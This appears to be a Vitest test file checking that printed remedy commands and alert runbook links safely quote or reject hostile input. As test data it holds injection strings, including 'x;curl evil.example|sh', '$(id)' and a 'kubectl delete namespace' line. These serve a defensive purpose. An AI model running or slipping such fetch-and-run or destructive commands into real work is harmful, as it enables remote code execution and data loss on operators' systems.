import { expect, onTestFinished, test } from 'vitest'
import { createServer } from 'node:http'
import { listenOn } from '../../lab/ports.ts'
import { OperatorError } from '../../lib/base/errors.ts'
import { alerts } from '../../lib/health/probes/alerts.ts'
import { askWeb } from '../../lib/tools/http-client.ts'
import { findArtifact } from '../../lib/tools/registry.ts'

const evil = 'x;curl evil.example|sh'

async function remedyOf(asking: Promise<unknown>): Promise<string> {
  const error: unknown = await asking.catch((thrown: unknown) => thrown)
  return error instanceof OperatorError ? (error.remedy ?? '') : String(error)
}

// A person pastes what is printed after an arrow.
test('a name from Git is one word of the command that is printed', async () => {
  const { signal } = new AbortController()
  expect(await remedyOf(findArtifact({ host: '127.0.0.1:1', repository: evil, reference: 'a' }, {}, signal))).toBe(
    `curl -I 'http://127.0.0.1:1/v2/${evil}/manifests/a'`,
  )
  expect(await remedyOf(askWeb(`http://127.0.0.1:1/${evil}`, {}))).toBe('curl --verbose --head http://127.0.0.1:1')
  expect(await remedyOf(askWeb('http://$(id).invalid/', { deadline: 100 }))).toBe("curl --verbose --head 'http://$(id).invalid'")
})

test.each([
  ['kubectl delete namespace flux-system', undefined],
  ['https://a.example/b; curl evil.example|sh', undefined],
  ['https://a.example/b', 'https://a.example/b'],
])('what an alert names as its runbook is what is to be done next where it is an address: %s', async (named, next) => {
  const firing = { labels: { alertname: 'FluxDown' }, annotations: { runbook_url: named }, state: 'firing' }
  const server = createServer((_, response) => void response.end(JSON.stringify({ data: { alerts: [firing] } })))
  const monitoring = `http://127.0.0.1:${await listenOn(server, 0)}`
  onTestFinished(() => void server.close())
  const { signal } = new AbortController()
  const snapshot = { monitoring, namespace: () => Promise.resolve('flux-system'), cluster: { signal } }
  const found = await alerts.check(Object.assign(Object.create(null), snapshot))
  expect(JSON.stringify(found)).toContain(JSON.stringify(next ?? `${monitoring}/api/v1/alerts`))
  expect(JSON.stringify(found)).not.toContain('kubectl')
  expect(JSON.stringify(found)).not.toContain('|sh')
})
